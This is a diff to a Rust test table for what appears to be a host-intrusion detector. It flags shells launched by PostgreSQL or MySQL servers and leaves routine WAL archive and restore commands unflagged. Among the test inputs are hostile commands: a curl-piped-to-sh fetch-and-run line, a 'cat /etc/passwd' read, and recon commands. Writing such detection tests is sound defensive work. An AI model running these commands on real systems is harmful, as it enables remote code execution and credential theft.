@@ -325,6 +325,117 @@ fn exec_table() -> Vec<Case> {
             vec!["/bin/sh", "/usr/lib/cgi-bin/status.sh"],
             vec![],
         ),
+        // A database server having a shell run a command string: PostgreSQL's
+        // `COPY t FROM PROGRAM 'id'`, a MySQL `sys_exec()` UDF, from the backend.
+        case(
+            "postgres",
+            104,
+            104,
+            vec!["sh", "-c", "id"],
+            vec!["behaviour-shell-from-database-server"],
+        ),
+        case(
+            "postgres",
+            104,
+            104,
+            vec!["sh", "-c", "true; curl -s http://127.0.0.1:8/x | sh"],
+            vec!["behaviour-shell-from-database-server"],
+        ),
+        case(
+            "mysqld",
+            105,
+            105,
+            vec!["/bin/sh", "-c", "whoami"],
+            vec!["behaviour-shell-from-database-server"],
+        ),
+        // Lower-case hex is not a WAL segment's name.
+        case(
+            "postgres",
+            104,
+            104,
+            vec!["sh", "-c", "cat /etc/passwd # 00000001000000000000000a"],
+            vec!["behaviour-shell-from-database-server"],
+        ),
+        // PostgreSQL's own: archive_command, restore_command, archive_cleanup_command with their
+        // `%p`, `%f` and `%r` put in; `true` as a do-nothing archive_command; Galera's transfer.
+        case(
+            "postgres",
+            104,
+            104,
+            vec![
+                "sh",
+                "-c",
+                "cp pg_wal/000000010000000000000003 /var/lib/postgresql/archive/000000010000000000000003",
+            ],
+            vec![],
+        ),
+        case(
+            "postgres",
+            104,
+            104,
+            vec![
+                "sh",
+                "-c",
+                "test ! -f /mnt/archive/000000010000000A000000FF && gzip < pg_wal/000000010000000A000000FF > /mnt/archive/000000010000000A000000FF",
+            ],
+            vec![],
+        ),
+        case(
+            "postgres",
+            104,
+            104,
+            vec![
+                "sh",
+                "-c",
+                "pgbackrest --stanza=main archive-push pg_wal/000000010000000000000003.partial",
+            ],
+            vec![],
+        ),
+        case(
+            "postgres",
+            104,
+            104,
+            vec![
+                "sh",
+                "-c",
+                "wal-g wal-fetch \"00000002.history\" \"pg_wal/RECOVERYHISTORY\"",
+            ],
+            vec![],
+        ),
+        case(
+            "postgres",
+            104,
+            104,
+            vec![
+                "sh",
+                "-c",
+                "barman-wal-restore -U barman backup main 000000010000000000000004 pg_wal/RECOVERYXLOG",
+            ],
+            vec![],
+        ),
+        case(
+            "postgres",
+            104,
+            104,
+            vec![
+                "sh",
+                "-c",
+                "pg_archivecleanup /mnt/archive 000000010000000000000002.00000028.backup",
+            ],
+            vec![],
+        ),
+        case("postgres", 104, 104, vec!["sh", "-c", "/bin/true"], vec![]),
+        case(
+            "mariadbd",
+            105,
+            105,
+            vec![
+                "sh",
+                "-c",
+                "wsrep_sst_rsync --role 'joiner' --address '127.0.0.1' --datadir '/var/lib/mysql/' --parent '812'",
+            ],
+            vec![],
+        ),
         // A shell command string from a program that is not a web server.
         case("cron", 0, 0, vec!["sh", "-c", "id; uname -a"], vec![]),
         case("sshd", 1000, 1000, vec!["bash", "-l"], vec![]),
